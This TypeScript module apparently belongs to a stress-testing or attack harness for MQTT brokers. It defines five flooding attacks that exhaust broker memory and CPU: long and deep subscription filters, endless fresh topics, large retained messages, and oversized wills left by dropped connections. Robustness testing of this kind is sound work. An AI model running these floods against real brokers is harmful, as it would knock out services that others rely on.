// What an open broker keeps for its clients: filters, topics, retained messages and wills, as many and as long as may be.
import { Attack, portion, type StartAttack, times } from "./attack.ts";
import { mqttConnect, mqttPublish, mqttSubscribe } from "./encode.ts";
import { mqttFlood } from "./plans.ts";
import type { StreamPlan } from "./raw-stream.ts";

const CLIENTS = 20;
const WILL_CLIENTS = 200;
/** Of each client, in packets of 200. */
const FILTERS_PER_CLIENT = 1_000;
const FILTERS_PER_PACKET = 200;
const NAME_CHARACTERS = 1_000;
const LONG_TOPIC_CHARACTERS = 60_000;
const TOPICS_PER_WRITE = 64;
const RETAINED_BYTES = 100_000;
/** The most that a will can hold. */
const WILL_BYTES = 65_535;

/** A name of that many characters that no other client and round has. */
function name(characters: number, client: number, round: number): string {
  return `t/${client}/${round}/`.padEnd(characters, "a");
}

const eachClient =
  (clients: number, plan: (port: number, client: number) => StreamPlan): StartAttack =>
  ({ mqttPort }, size) =>
    new Attack(times(portion(clients, size), (client) => plan(mqttPort, client)));

/** Publishes on a topic that was never used before, again and again. */
const freshTopics = (characters: number, perWrite: number) => (port: number, client: number) => ({
  ...mqttFlood(port, Buffer.alloc(0)),
  next: (round: number) =>
    Buffer.concat(
      times(perWrite, (index) =>
        mqttPublish({ topic: name(characters, client, round * perWrite + index), payload: "1" }),
      ),
    ),
});

/** Of two clients, one subscribes as much as it may and the other publishes what each filter has to be tried on. */
export const longFilters = eachClient(CLIENTS, (port, client) => {
  if (client % 2 === 1) return freshTopics(NAME_CHARACTERS, TOPICS_PER_WRITE)(port, client);
  const packets = FILTERS_PER_CLIENT / FILTERS_PER_PACKET;
  const filters = (round: number) =>
    times(FILTERS_PER_PACKET, (index) => name(NAME_CHARACTERS, client, round * FILTERS_PER_PACKET + index));
  return {
    ...mqttFlood(port, Buffer.alloc(0)),
    next: (round) => (round < packets ? mqttSubscribe(filters(round)) : null),
  };
});

const DEEP_CLIENTS = 200;
const DEEP_FILTERS = 80;
const DEEP_LEVELS = 99;

/** A filter that begins like no other, and matches what is published until its last level. */
function deepFilter(client: number, number: number): string {
  const levels = times(DEEP_LEVELS, (level) => (Math.sin(client + 99 * number + 7 * level) > 0 ? "+" : "a"));
  return `${levels.join("/")}/z`;
}

/** Of twenty clients, one publishes what nearly all levels of the filters of the others have to be compared with. */
export const deepFilters = eachClient(DEEP_CLIENTS, (port, client) => {
  if (client % 20 === 0)
    return {
      ...mqttFlood(port, Buffer.alloc(0)),
      next: (round) => mqttPublish({ topic: `${"a/".repeat(DEEP_LEVELS)}${client}-${round}`, payload: "1" }),
    };
  const filters = times(DEEP_FILTERS, (number) => deepFilter(client, number));
  return { ...mqttFlood(port, Buffer.alloc(0)), next: (round) => (round === 0 ? mqttSubscribe(filters) : null) };
});

export const longTopics = eachClient(CLIENTS, freshTopics(LONG_TOPIC_CHARACTERS, 1));

export const endlessRetained = eachClient(CLIENTS, (port, client) => {
  const payload = Buffer.alloc(RETAINED_BYTES, "a");
  return {
    ...mqttFlood(port, Buffer.alloc(0)),
    next: (round) => mqttPublish({ topic: `t/${client}/${round}`, payload, retain: true }),
  };
});

/** Connects, leaves without a goodbye, and is back. */
export const longWills = eachClient(WILL_CLIENTS, (port, client) => ({
  port,
  opening: mqttConnect({ topic: `t/${client}`, payload: Buffer.alloc(WILL_BYTES, "a") }),
  awaitsAnswer: true,
  reads: true,
  next: () => null,
  hangsUp: true,
}));
